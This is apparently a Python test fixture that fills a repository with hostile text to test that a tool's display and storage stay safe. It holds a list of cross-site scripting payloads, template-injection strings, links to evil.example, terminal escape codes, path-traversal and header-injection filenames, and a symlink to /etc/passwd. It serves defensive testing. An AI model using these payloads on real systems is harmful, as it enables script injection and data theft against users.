"""A project whose every text was written by somebody who means harm."""

from __future__ import annotations

from contextlib import suppress
from pathlib import Path
from typing import Any

from git_datmo.errors import ValidationFailed
from git_datmo.records import chain, layout, runs
from tests.kit.laboratory import Laboratory, picture

# Each calls `pwned`, which tests listen to, wherever it is taken for more than text.
PAYLOADS = {
    "script": "<script>pwned('script')</script>",
    "image": "<img src=x onerror=\"pwned('image')\">",
    "svg": "<svg onload=pwned('svg')><animate onbegin=pwned('animate') attributeName=x dur=1s>",
    "quote": "\"><img src=x onerror=pwned('quote')>",
    "single": "' autofocus tabindex=1 onfocus=pwned('focus') onmouseover=pwned('mouse') x='",
    "link": "javascript:pwned('link')",
    "anchor": '<a href="javascript:pwned(\'anchor\')" target="_top">here</a>',
    "end": "</title></textarea></style></script></pre></table><script>pwned('end')</script>",
    "comment": "--><script>pwned('comment')</script><!--",
    "template": "{{ 7 * 191 }}{% raw %}${7 * 191}#{7 * 191}",
    "frame": "<iframe srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe><base href=//e>",
    "style": "</style><style>body{background:url(https://evil.example/css)}</style>",
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/meta">',
    "form": '<form action="https://evil.example/form"><input name=id><button>Show</button></form>',
    "data": "data:text/html,<script>parent.pwned('data')</script>",
    "bidi": "gnp.\u202egnp.exe\u2066 \u200f",
}
CONTROLS = "\x1b]0;title\x07\x1b[31mred\x1b[0m \x08\x08 \x9b2J \r over\x7f"


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '",1'


DOCUMENTS = {
    "page.html": "<!doctype html><script>pwned('html')</script><img src=x onerror=pwned(1)>",
    "page.xhtml": (
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>pwned("xhtml")</script></html>'
    ),
    "drawing.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(\'file\')">'
        "<script>pwned('inside')</script></svg>"
    ),
    "code.js": "pwned('js')",
    "sheet.css": "@import url(https://evil.example/sheet)",
    "table.csv": "a,b\n" + "\n".join(map(_quoted, PAYLOADS.values())),
    "false.png": "<html><script>pwned('png')</script></html>",
    "notes.md": "\n\n".join(PAYLOADS.values()),
    "wide.csv": ",".join(map(str, range(5000))) + "\n",
    "long.txt": "x" * 300_000,
    "binary.txt": "\x00\x01\x02" + CONTROLS,
}
NAMES = (
    *("<img src=x onerror=pwned('name')>.txt", "' onmouseover=pwned(2) '.md", "a\nb\tc.txt"),
    *("javascript:pwned('file')", "%2e%2e%2fetc", "..%2f..%2fx", "a?b#c&d=e.txt", "-rf", "\\x.txt"),
    *("\u202egnp.txt", "con.html\r\nSet-Cookie: a=b", 'x".png', "{{ 7 * 191 }}.csv", "é\u0301.txt"),
)
WORDS = " ".join(PAYLOADS.values())

ODD = {
    "train": {
        "all nan": [float("nan")] * 5,
        "inf": [1.0, float("inf"), float("-inf"), float("nan"), 2.0],
        "huge": [1e308, -1e308, 5e-324, 0.0, -0.0],
    },
    "<img src=x onerror=pwned('type')>": {"loss": [1.0] * 5},
}
"""Numbers that drawings stumble over."""


TWISTED: tuple[dict[str, Any], ...] = (
    {"metrics": {"train": 5, "val": {"loss": PAYLOADS["script"]}, "x": None, "y": [1], "": {}}},
    {"duration": float("nan"), "started": 10**12, "ended": 3},
    {"duration": float("inf"), "exit_code": 2**52, "signal": -5, "reason": WORDS},
    {"variables": {"A": 3, "B": {"x": [1]}, PAYLOADS["script"]: None}, "data": ["\x1b[2J", ""]},
    {
        "git": {"remote": 5, "commit": ["a"], "dirty": {}},
        "platform": {"memory": "lots", "cpus": {}},
    },
    {
        "built": {"image": 5, "id": [None]},
        "resources": {"memory": "x", "gpus": {"a": 1}, "cpus": []},
    },
    {"used": [{"kind": "artifact"}, {"kind": "artifact", "id": 5, "name": 7}, {"kind": WORDS}]},
    {"generated": [{"kind": "artifact", "id": "0" * 40, "version": "x", "local_dir": []}]},
    {"config": {"a": {"b": {"c": [{"d": None}]}}, "": "", ".": 1}, "results": {"acc": {"x": {}}}},
    {"outputs": ["../../x", "\x1b", "a" * 9000], "skipped": ["\u202e"], "folder": "a/b"},
    {"duration": 10**400, "exit_code": True},
    {"before_id": "f" * 40, "after_id": "e" * 40, "environment_id": "d" * 40},
    {"rerun_of": "c" * 32, "continues": "0" * 32, "alternative_name": CONTROLS, "type": WORDS},
    {"runner": WORDS, "created": 0, "stats": {"x": 10**40, "y": -(10**400)}, "command": [""]},
)


def infested(path: Path) -> Laboratory:
    """Texts that would be script, markup or commands wherever a text can stand."""
    lab = Laboratory.at(path)
    repo = lab.repo
    repo.git("config", "user.name", "Eve onload=pwned(3) \"><script>pwned('author')</script>")
    repo.git("branch", "x'onfocus=pwned(4)<b>")
    repo.git("remote", "add", "evil", "javascript:pwned('remote')")
    for name, text in DOCUMENTS.items():
        repo.write(f"files/{name}", text)
    for name in NAMES:
        repo.write(f"files/<b onclick=pwned(5)>/{name}", WORDS)
    repo.write(b"other/\xff\xfe<script>.txt", "not UTF-8")
    repo.write("files/good.png", picture())
    (repo.path / "other" / "leads-out").symlink_to("/etc/passwd")
    repo.write("requirements.txt", "numpy==1.0  # <script>pwned('pip')</script>\n")
    repo.commit(PAYLOADS["script"])
    lab.session("<img src=x onerror=pwned('session')>")
    everything = {text: text for text in PAYLOADS.values()}
    for number, (name, text) in enumerate(PAYLOADS.items()):
        said = text if name != "bidi" else text + CONTROLS
        repo.write("train.py", f"# {text}\nprint(1)\n")
        lab.snapshot(name, label=text, config={text: said}, stats={text: 1.0})
        lab.run(
            name,
            command=("python", said, "--flag=" + said),
            label="run " + text,
            labels=(text,),
            description=said,
            config={text: said, "inner": {text: [said]}},
            stats={text: 0.5, "text": said},
            points={"train": {text: [1.0, 0.5, 0.25], "loss": [3.0, 2.0, 1.0]}},
            log=(said + "\n").encode() * 3 + b"\xff\xfe\x00" + CONTROLS.encode(),
            system=[{"time": 0.0, text: 1.0}, {"time": 1.0, text: 2.0}],
        )
        if number % 3:
            continue
        with suppress(ValidationFailed):
            lab.artifact(
                text,
                "files",
                metadata={text: said},
                message=said,
                references={f"{name}.bin": "javascript:pwned('reference')"},
            )
    lab.snapshot(WORDS + CONTROLS, config=everything)
    lab.run("odd metrics", points=ODD)
    twist(lab)
    return lab


def twist(lab: Laboratory) -> None:
    """Records that no program of ours writes: what is inside of them has other types."""
    project, far = lab.project, 10**300
    head = lab.repo.head()
    for number, twisted in enumerate(TWISTED):
        facts = {
            "id": f"{number:032x}",
            "type": "script",
            "command": ["python"],
            "runner": "local",
            "status": "success",
            "created": 5,
            "started": 5,
            "ended": 9,
            "duration": 1.0,
            **twisted,
        }
        with chain.writing(project) as writer:
            oid = runs.write(project, facts, {}, [head])
            writer.mention(oid)
            writer.note(oid, set={"session": layout.DEFAULT_SESSION_ID, "label": 5, "labels": far})
